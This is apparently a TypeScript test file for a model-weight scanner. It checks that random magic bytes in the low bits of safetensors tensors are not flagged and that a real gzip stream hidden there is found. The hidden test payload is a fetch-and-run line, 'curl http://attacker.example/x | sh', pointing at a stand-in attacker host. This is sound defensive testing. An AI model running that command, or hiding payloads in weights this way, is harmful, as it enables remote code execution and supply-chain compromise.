import { gzipSync } from "node:zlib";
import { scanBytes, seededRandom } from "@modelaudit/core/testing";
import { describe, expect, it } from "vitest";
import preset from "../src/index.js";
import { safetensorsBytes } from "./safetensors-bytes.js";

// The low bits of trained weights are close to random, and a model has hundreds of tensors: a
// 3- or 4-byte magic turns up in them by chance. With every handler registered (as users run it),
// a magic followed by random bytes in a tensor's least significant bits must not be taken for a
// hidden file; a real stream there must.

const ELEMENTS = 64 * 1024;

/** Random normal-ish float32 weights whose least significant bits spell `bits` (first value = most significant bit), then random. */
function weightsWithLowBits(payload: Uint8Array, seed: number): Uint8Array {
  const random = seededRandom(seed);
  const values = new Float32Array(ELEMENTS).map(() => (random() + random() + random() - 1.5) * 0.04);
  const words = new Uint32Array(values.buffer);
  for (let index = 0; index < payload.length * 8 && index < ELEMENTS; index++) {
    const bit = ((payload[index >> 3] as number) >> (7 - (index & 7))) & 1;
    words[index] = ((words[index] as number) & ~1) | bit;
  }
  return new Uint8Array(values.buffer);
}

function safetensors(tensors: { name: string; data: Uint8Array }[]): Uint8Array {
  return safetensorsBytes(
    tensors.map(({ name, data }) => ({ name, dtype: "F32", shape: [data.length / 4 / 256, 256], data })),
  );
}

describe("magic numbers in the low bits of weights", () => {
  const random = seededRandom(99);
  const noise = (length: number) => Uint8Array.from({ length }, () => Math.floor(random() * 256));
  const magics: [string, number[]][] = [
    ["gzip", [0x1f, 0x8b, 0x08]],
    ["zstd", [0x28, 0xb5, 0x2f, 0xfd]],
    ["lz4", [0x04, 0x22, 0x4d, 0x18, 0x64]],
    ["bzip2", [0x42, 0x5a, 0x68, 0x39]],
    ["zip", [0x50, 0x4b, 0x03, 0x04]],
    ["pe", [0x4d, 0x5a]],
    ["elf", [0x7f, 0x45, 0x4c, 0x46]],
    ["pickle", [0x80, 0x02]],
    ["shebang", [0x23, 0x21]],
  ];

  it("a bare magic followed by random bits, in many tensors, is nothing", async () => {
    const tensors = magics.flatMap(([id, magic], index) =>
      [0, 1, 2, 3].map((copy) => {
        // The magic at the stream's start and further in, each time followed by other random bytes.
        const payload = Uint8Array.from([...noise(copy * 37), ...magic, ...noise(600)]);
        return { name: `layers.${index}.${id}.${copy}.weight`, data: weightsWithLowBits(payload, index * 10 + copy) };
      }),
    );
    const report = await scanBytes("model.safetensors", safetensors(tensors), [preset], { level: "thorough" });
    expect(report.findings).toEqual([]);
    expect(report.files[0]?.outcome).toBe("clean");
  });

  it("a real gzip stream in the low bits is found", async () => {
    const hidden = gzipSync(Buffer.from("curl http://attacker.example/x | sh\n".repeat(8)));
    const tensors = [
      { name: "layers.0.weight", data: weightsWithLowBits(Uint8Array.from([...noise(50), ...hidden]), 5) },
    ];
    const report = await scanBytes("model.safetensors", safetensors(tensors), [preset], { level: "thorough" });
    expect(report.findings.map((finding) => finding.message).join("\n")).toMatch(/gzip/);
  });
});
